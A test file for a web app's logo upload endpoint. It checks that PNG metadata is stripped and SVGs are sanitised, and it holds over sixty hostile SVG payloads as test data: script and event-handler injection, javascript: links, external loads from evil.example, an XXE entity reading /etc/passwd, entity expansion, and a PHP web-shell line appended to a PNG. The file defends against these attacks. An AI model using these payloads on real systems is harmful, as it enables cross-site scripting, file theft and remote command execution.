import { deflateSync, crc32, inflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ErrorBody } from '@stegvis/shared/api/error.ts';
import type { LogoSaved, Organisation } from '@stegvis/shared/api/organisation.ts';
import * as tables from '../../server/src/db/tables.ts';
import { startApp, type Client } from '../support/app.ts';
import { sketchModel } from '../support/model.ts';

let stegvis: Awaited<ReturnType<typeof startApp>>;
let administrator: Client;
beforeAll(async () => {
  stegvis = await startApp(sketchModel([{ code: 'L1', step: 1 }]));
  administrator = await stegvis.signIn('administrator');
});
afterAll(() => stegvis.close());

const url = '/api/organisations/hemma/logo';
const put = (payload: string | Buffer, type = 'image/svg+xml', client = administrator) =>
  client.inject({ method: 'PUT', url, payload, headers: { 'content-type': type } });
const get = (query = '', client = administrator, headers: Record<string, string> = {}) =>
  client.inject({ url: url + query, headers });

// ── PNG ─────────────────────────────────────────────────────────────────────────────────────────────────────────

const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}
interface Sketch {
  width?: number;
  height?: number;
  depth?: number;
  colour?: number;
  interlace?: number;
  pixels?: Buffer;
  extra?: Buffer[];
  after?: Buffer;
}
function png({
  width = 20,
  height = 20,
  depth = 8,
  colour = 6,
  interlace = 0,
  pixels,
  extra = [],
  after,
}: Sketch = {}) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([depth, colour, 0, 0, interlace], 8);
  const data = pixels ?? Buffer.alloc(Math.min(height, 3000) * (1 + width * 4));
  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', header),
    ...extra,
    chunk('IDAT', deflateSync(data)),
    chunk('IEND', Buffer.alloc(0)),
    ...(after ? [after] : []),
  ]);
}

describe('a PNG', () => {
  test('keeps its pixels and loses everything else', async () => {
    const pixels = Buffer.alloc(20 * 81, 1);
    for (let row = 0; row < 20; row += 1) pixels[row * 81] = row % 5;
    const secret = chunk('tEXt', Buffer.from('Author\0Someone <script>alert(1)</script>'));
    const place = chunk('eXIf', Buffer.from('GPS 64.19, 20.85'));
    const sent = png({ pixels, extra: [secret, place], after: Buffer.from('<?php system($_GET[0]);') });
    expect((await put(sent, 'image/png')).statusCode).toBe(200);

    const got = await get();
    expect(got.headers['content-type']).toBe('image/png');
    const bytes = got.rawPayload;
    for (const trace of ['Someone', 'script', 'GPS', 'php', 'tEXt', 'eXIf']) expect(bytes.includes(trace)).toBe(false);
    const at = bytes.indexOf('IDAT');
    expect(inflateSync(bytes.subarray(at + 4, at + 4 + bytes.readUInt32BE(at - 4)))).toEqual(pixels);
  });

  test.each<[string, Buffer]>([
    [
      'of a palette, with transparency',
      png({
        colour: 3,
        depth: 4,
        pixels: Buffer.alloc(20 * 11),
        extra: [chunk('PLTE', Buffer.alloc(48, 9)), chunk('tRNS', Buffer.from([0, 255]))],
      }),
    ],
    ['of one bit', png({ colour: 0, depth: 1, pixels: Buffer.alloc(20 * 4) })],
    ['interlaced', png({ width: 16, height: 16, interlace: 1, pixels: Buffer.alloc(1024 + 30 + 0) })],
    ['of sixteen bits', png({ depth: 16, pixels: Buffer.alloc(20 * 161) })],
  ])('%s is taken', async (_what, bytes) => {
    expect((await put(bytes, 'image/png')).statusCode).toBe(200);
  });

  const cut = png();
  const flipped = png();
  flipped[45] = (flipped[45] ?? 0) ^ 1;
  test.each<[string, Buffer, string]>([
    ['cut short', cut.subarray(0, cut.length - 20), 'PNG'],
    ['with a byte changed', flipped, 'PNG'],
    ['with fewer pixels than it says', png({ pixels: Buffer.alloc(100) }), 'PNG'],
    ['with more pixels than it says', png({ pixels: Buffer.alloc(100_000_000) }), 'PNG'],
    ['with a filter that does not exist', png({ pixels: Buffer.alloc(20 * 81, 9) }), 'PNG'],
    ['with a colour type that does not exist', png({ colour: 5 }), 'PNG'],
    ['with a palette and no palette', png({ colour: 3, pixels: Buffer.alloc(20 * 21) }), 'PNG'],
    ['of a signature and nothing more', SIGNATURE, 'PNG'],
    ['that is too small', png({ width: 1, height: 1, pixels: Buffer.alloc(5) }), '2 000'],
    ['that swells', png({ width: 100_000, height: 100_000, pixels: Buffer.alloc(10) }), '2 000'],
    ['that is very wide', png({ width: 2001, height: 20, pixels: Buffer.alloc(10) }), '2 000'],
  ])('%s is refused, and the one that was there stays', async (_what, bytes, says) => {
    const before = (await get()).rawPayload;
    const reply = await put(bytes, 'image/png');
    expect(reply.statusCode).toBe(400);
    expect(reply.json<ErrorBody>().error.fields?.logo).toContain(says);
    expect((await get()).rawPayload).toEqual(before);
  });
});

// ── SVG ─────────────────────────────────────────────────────────────────────────────────────────────────────────

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" ${attributes}>${inside}</svg>`;
const SHAPE = '<path d="M0 0h10v10z"/>';

describe('an SVG', () => {
  test('of a drawing program keeps its drawing', async () => {
    const sent = `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: a drawing program -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" x="0px" y="0px" viewBox="0 0 100 40" xml:space="preserve">
<style type="text/css">/* colours */ .st0{fill:#00528A;} .st1{clip-path:url(#SVGID_2_);fill:url(#g)}</style>
<sodipodi:namedview id="base" pagecolor="#ffffff"/>
<defs><rect id="SVGID_1_" width="100" height="40"/>
<linearGradient id="g" x1="0%" y1="0" x2="100%" y2="0" gradientTransform="matrix(1 0 0 1 0 0)"><stop offset="0" style="stop-color:#FFCC00"/></linearGradient></defs>
<clipPath id="SVGID_2_"><use xlink:href="#SVGID_1_" style="overflow:visible;"/></clipPath>
<g transform="translate(1,2) scale(.5)"><path class="st0" d="M1,2 3-4c1e-3 5 6 7 8 9z"/><circle class="st1" cx="5" cy="5" r="4"/></g>
<text x="1" y="2" font-family="'Source Sans 3', sans-serif">Åmål &amp; Säffle</text>
</svg>`;
    const reply = await put(sent);
    expect(reply.statusCode).toBe(200);
    expect(reply.json<LogoSaved>().removed).toEqual(['<sodipodi:namedview>', 'type', 'xml:space']);
    const got = (await get()).body;
    for (const kept of [
      '.st0 { fill: #00528A }',
      'clip-path: url(#SVGID_2_)',
      'href="#SVGID_1_"',
      'd="M1,2 3-4c1e-3 5 6 7 8 9z"',
      'stop-color: #FFCC00',
      'translate(1,2) scale(.5)',
      'Åmål &amp; Säffle',
      `font-family="'Source Sans 3', sans-serif"`,
    ]) {
      expect(got).toContain(kept);
    }
    for (const gone of ['<!', '<?', 'sodipodi', 'xlink', 'colours']) expect(got).not.toContain(gone);
    // What was made once is not changed by being made again.
    expect((await put(got)).json<LogoSaved>().removed).toEqual([]);
    expect((await get()).body).toBe(got);
  });

  /** Each is either refused, or stripped of what is dangerous in it. */
  const attacks: [string, string][] = [
    ['script', svg(`<script>alert(1)</script>${SHAPE}`)],
    ['script from outside', svg(`<script href="https://evil.example/x.js"/>${SHAPE}`)],
    ['script in CDATA', svg(`<script><![CDATA[alert(1)]]></script>${SHAPE}`)],
    ['script in capitals', svg(`<SCRIPT>alert(1)</SCRIPT>${SHAPE}`)],
    ['script with a prefix', svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>${SHAPE}`)],
    ['script of HTML', svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>${SHAPE}`)],
    ['onload', svg(SHAPE, 'onload="alert(1)"')],
    ['onclick', svg('<path d="M0 0" onclick="alert(1)"/>')],
    ['a handler in capitals', svg('<path d="M0 0" OnMouseOver="alert(1)"/>')],
    ['a handler with an entity in it', svg('<path d="M0 0" onfocus="&#97;lert(1)" tabindex="0"/>')],
    ['begin event', svg('<path d="M0 0"><set attributeName="x" onbegin="alert(1)"/></path>')],
    [
      'foreignObject',
      svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>${SHAPE}`),
    ],
    [
      'iframe in foreignObject',
      svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="alert(1)"/></foreignObject>${SHAPE}`),
    ],
    ['javascript: link', svg(`<a href="javascript:alert(1)">${SHAPE}</a>`)],
    ['javascript: link by xlink', svg(`<a xlink:href="javascript:alert(1)">${SHAPE}</a>`)],
    ['javascript: with a tab in it', svg(`<a href="java&#9;script:alert(1)">${SHAPE}</a>`)],
    ['animated href', svg(`<a><animate attributeName="href" values="javascript:alert(1)"/>${SHAPE}</a>`)],
    ['set href', svg(`<a id="x"><set href="#x" attributeName="href" to="javascript:alert(1)"/>${SHAPE}</a>`)],
    ['use from outside', svg(`<use href="https://evil.example/x.svg#a"/>${SHAPE}`)],
    ['use of data', svg(`<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>${SHAPE}`)],
    ['use by xlink from outside', svg(`<use xlink:href="//evil.example/x.svg#a"/>${SHAPE}`)],
    ['image from outside', svg(`<image href="https://evil.example/p.png"/>${SHAPE}`)],
    ['image of data', svg(`<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>${SHAPE}`)],
    ['feImage', svg(`<filter id="f"><feImage href="https://evil.example/p.png"/></filter>${SHAPE}`)],
    ['fill from outside', svg('<path d="M0 0" fill="url(https://evil.example/a.svg#g)"/>')],
    ['fill from outside in quotes', svg(`<path d="M0 0" fill="url('//evil.example/a#g')"/>`)],
    ['fill with an escape', svg('<path d="M0 0" style="fill:\\75rl(//evil.example/a)"/>')],
    ['fill with a comment in it', svg('<path d="M0 0" style="fill:u/**/rl(//evil.example/a)"/>')],
    ['style attribute from outside', svg('<path d="M0 0" style="background:url(//evil.example/a)"/>')],
    ['style with a behaviour', svg('<path d="M0 0" style="behavior:url(x.htc);-moz-binding:url(x)"/>')],
    ['style with an expression', svg('<path d="M0 0" style="fill:expression(alert(1))"/>')],
    ['import in the style sheet', svg(`<style>@import "https://evil.example/a.css";</style>${SHAPE}`)],
    ['font in the style sheet', svg(`<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>${SHAPE}`)],
    ['style sheet that reads attributes', svg(`<style>path[d^="M"]{fill:url(//evil.example/a)}</style>${SHAPE}`)],
    ['style sheet that ends early', svg(`<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>${SHAPE}`)],
    ['style sheet in CDATA', svg(`<style><![CDATA[</style><script>alert(1)</script>]]></style>${SHAPE}`)],
    ['style sheet instruction', `<?xml-stylesheet href="https://evil.example/a.xsl" type="text/xsl"?>${svg(SHAPE)}`],
    ['entity', `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg(`${SHAPE}&x;`)}`],
    ['entity from outside', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg(`<text>&x;</text>`)}`],
    ['entity of parameters', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/e"> %x;]>${svg(SHAPE)}`],
    ['entities without end', `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>${svg('<text>&b;</text>')}`],
    ['attribute of the DTD', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg(SHAPE)}`],
    [
      'handler element',
      svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>${SHAPE}`),
    ],
    ['listener', svg(`<listener event="load" handler="#x"/>${SHAPE}`)],
    ['xml:base', svg(`<use xml:base="https://evil.example/" href="#a"/>${SHAPE}`)],
    ['text that would be markup', svg('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>')],
    ['attribute that would be markup', svg('<path d="M0 0" id="&quot;&gt;&lt;script&gt;"/>')],
    ['title that would be markup', svg(`<title>&lt;/title&gt;&lt;script&gt;alert(1)</title>${SHAPE}`)],
    ['audio', svg(`<audio xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/a" autoplay="1"/>${SHAPE}`)],
    ['embed', svg(`<embed xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/a"/>${SHAPE}`)],
    ['link', svg(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//evil.example/a"/>${SHAPE}`)],
    [
      'meta',
      svg(`<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//evil.example"/>${SHAPE}`),
    ],
    ['ping', svg(`<a href="#x" ping="https://evil.example/">${SHAPE}</a>`)],
    ['cursor', svg('<path d="M0 0" cursor="url(//evil.example/c)"/>')],
    ['filter function', svg('<path d="M0 0" filter="url(//evil.example/f#x)"/>')],
    ['marker from outside', svg('<path d="M0 0" marker-start="url(//evil.example/f#x)"/>')],
    ['mask from outside', svg('<path d="M0 0" mask="url(//evil.example/f#x)"/>')],
    ['var and env', svg('<path d="M0 0" fill="var(--x, url(//evil.example/a))"/>')],
    ['image-set', svg('<path d="M0 0" style="fill:image-set(&quot;//evil.example/a&quot; 1x)"/>')],
    ['pretended namespace', `<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>`],
    ['HTML', '<html><body onload="alert(1)"></body></html>'],
    ['HTML after a comment', '<!-- <svg> --><body onload="alert(1)"><svg></svg></body>'],
    ['comment that hides', svg(`<!--><script>alert(1)</script>-->${SHAPE}`)],
    ['UTF-7', `+ADw-svg onload+AD0-+ACI-alert(1)+ACI-+AD4-`],
    ['control signs', svg('<path d="M0 0" on\u0000load="alert(1)"/>')],
    ['broken', '<svg xmlns="http://www.w3.org/2000/svg"><path onload="alert(1)"'],
    ['a use of itself', svg('<g id="a"><use href="#a"/></g>')],
    [
      'uses that double',
      svg(
        Array.from({ length: 25 }, (_, i) => `<g id="a${i + 1}"><use href="#a${i}"/><use href="#a${i}"/></g>`).join(
          '',
        ) + '<path id="a0" d="M0 0"/>',
      ),
    ],
    [
      'masks that double',
      svg(
        `<style>${Array.from({ length: 25 }, (_, i) => `.c${i}{mask:url(#m${i})}`).join('')}</style>` +
          Array.from(
            { length: 25 },
            (_, i) => `<mask id="m${i}"><path class="c${i + 1}" d="M0 0"/><path class="c${i + 1}" d="M0 0"/></mask>`,
          ).join('') +
          '<path class="c0" d="M0 0"/>',
      ),
    ],
    ['depth without end', svg('<g>'.repeat(20_000) + '</g>'.repeat(20_000))],
    ['elements without end', svg('<path/>'.repeat(10_000))],
    ['nothing to see', svg('<defs/>')],
  ];
  test.each(attacks)('%s does nothing', async (_what, text) => {
    const reply = await put(text);
    expect([200, 400]).toContain(reply.statusCode);
    if (reply.statusCode === 400) {
      expect(reply.json<ErrorBody>().error.fields).toHaveProperty('logo');
      return;
    }
    const got = (await get()).body;
    expect(got).toMatch(/<(?:path|text|use)/);
    expect(got).not.toMatch(
      /<(?!\/?(?:svg|g|defs|path|rect|circle|use|text|title|style|clipPath|mask|linearGradient|stop)[\s>/])|[\s"']on\w+\s*=|javascript:|data:|evil|https?:(?!\/\/www\.w3\.org\/2000\/svg)|@|expression|behavior|\\|passwd/i,
    );
  });
  test('most of the attacks leave the shape, and none is taken whole', () =>
    expect(attacks.length).toBeGreaterThan(60));

  const long = (text: string) => text.repeat(Math.floor(190_000 / text.length));
  test.each([
    ['a style sheet of one word', svg(`<style>${long('a')}</style>${SHAPE}`)],
    ['a style sheet of openings', svg(`<style>${long('a{')}</style>${SHAPE}`)],
    ['a style sheet of comments that never end', svg(`<style>${long('/*')}</style>${SHAPE}`)],
    ['a colour of one word', svg(`<path d="M0 0" fill="${long('a')}"/>`)],
    ['a colour of openings', svg(`<path d="M0 0" fill="${long('a(')}"/>`)],
    ['a style of spaces', svg(`<path d="M0 0" style="fill${long(' ')}"/>`)],
    ['a drawing of one number', svg(`<path d="${long('1')}"/>`)],
    ['a reference of spaces', svg(`<path d="M0 0" fill="url(${long(' ')}#a)"/>`)],
    [
      'references in a long row',
      svg(
        `${Array.from({ length: 2_400 }, (_, i) => `<g id="a${i + 1}"><use href="#a${i}"/></g>`)
          .reverse()
          .join('')}<path id="a0" d="M0 0"/>`,
      ),
    ],
    [
      'rules for many',
      svg(`<style>${'a{fill:url(#b)}'.repeat(6_000)}</style>${'<path class="x" d="M0"/>'.repeat(3_000)}`),
    ],
    ['names without end', svg(`<g ${Array.from({ length: 9_000 }, (_, i) => `on${i}x="a"`).join(' ')}/>${SHAPE}`)],
  ])('%s takes no time', async (_what, text) => {
    const start = performance.now();
    const reply = await put(text);
    expect(performance.now() - start).toBeLessThan(1500);
    expect([200, 400]).toContain(reply.statusCode);
    if (reply.statusCode === 200) expect(reply.json<LogoSaved>().removed.length).toBeLessThanOrEqual(20);
  });

  test('only UTF-8 is read', async () => {
    const wide = Buffer.from(`\ufeff${svg('<script>alert(1)</script>')}`, 'utf16le');
    expect((await put(wide)).statusCode).toBe(400);
    expect((await put(Buffer.from([0x3c, 0x73, 0xff, 0xfe]))).statusCode).toBe(400);
  });
});

// ── Receiving and serving ───────────────────────────────────────────────────────────────────────────────────────

describe('receiving', () => {
  test('what it is decides, not what it says it is', async () => {
    expect((await put(png(), 'image/svg+xml')).statusCode).toBe(200);
    expect((await get()).headers['content-type']).toBe('image/png');
    expect((await put(svg(SHAPE), 'image/png')).statusCode).toBe(200);
    expect((await get()).headers['content-type']).toBe('image/svg+xml; charset=utf-8');
  });

  test.each([
    ['text/html', '<b>'],
    ['image/jpeg', 'x'],
    ['application/json', '{"logo":"x"}'],
    ['application/octet-stream', png()],
    ['image/svg+xml', ''],
    ['image/png', 'GIF89a'],
  ])('%s is refused when it is no picture of ours', async (type, body) => {
    expect((await put(body, type)).statusCode).toBe(400);
  });

  test('at most 200 kB', async () => {
    const reply = await put(svg(`${SHAPE}<desc>${'x'.repeat(200 * 1024)}</desc>`));
    expect(reply.statusCode).toBe(413);
    expect(reply.json<ErrorBody>().error.code).toBe('too-large');
  });

  test('from the administrator alone', async () => {
    for (const role of ['processledare', 'lasare'] as const) {
      const client = await stegvis.signIn(role);
      expect((await put(png(), 'image/png', client)).statusCode).toBe(403);
      expect((await client.inject({ method: 'DELETE', url })).statusCode).toBe(403);
      expect((await get('', client)).statusCode).toBe(200);
    }
  });

  test('is logged without the picture', async () => {
    const { removed } = (await put(svg(`<script>alert(1)</script>${SHAPE}`))).json<LogoSaved>();
    const last = (await stegvis.db.read.select().from(tables.audit)).at(-1);
    expect(last).toMatchObject({ act: 'organisation.logo', after: { mediaType: 'image/svg+xml', removed } });
    expect(JSON.stringify(last)).not.toContain('alert');
  });
});

describe('serving', () => {
  test('as a picture that can do nothing, kept by version', async () => {
    const { version } = (await put(svg(SHAPE))).json<LogoSaved>();
    const { body } = await administrator.send<Organisation>('GET', 'hemma/');
    expect(body.logoVersion).toBe(version);
    const got = await get(`?v=${version}`);
    expect(got.headers).toMatchObject({
      'content-security-policy': "default-src 'none'; style-src 'unsafe-inline'; sandbox; frame-ancestors 'none'",
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, max-age=31536000, immutable',
      etag: `"${version}"`,
    });
    expect((await get('?v=older')).headers['cache-control']).toBe('private, no-cache');
    const again = await get('', administrator, { 'if-none-match': `"${version}"` });
    expect([again.statusCode, again.body]).toEqual([304, '']);
  });

  test('is nobody else’s', async () => {
    const stranger = await stegvis.signIn('administrator', stegvis.other);
    const theirs = await get('', stranger);
    const missing = await stranger.inject({ url: '/api/organisations/finns-inte/logo' });
    expect([theirs.statusCode, missing.statusCode]).toEqual([404, 404]);
    const bare = (reply: typeof theirs) => ({ ...reply.json<ErrorBody>().error, requestId: '' });
    expect(bare(theirs)).toEqual(bare(missing));
    expect((await put(png(), 'image/png', stranger)).statusCode).toBe(404);
    expect((await stegvis.app.inject({ url })).statusCode).toBe(401);
  });

  test('is taken away', async () => {
    expect((await administrator.inject({ method: 'DELETE', url })).statusCode).toBe(204);
    expect((await get()).statusCode).toBe(404);
    expect((await administrator.inject({ method: 'DELETE', url })).statusCode).toBe(404);
    expect((await administrator.send<Organisation>('GET', 'hemma/')).body.logoVersion).toBeNull();
  });
});
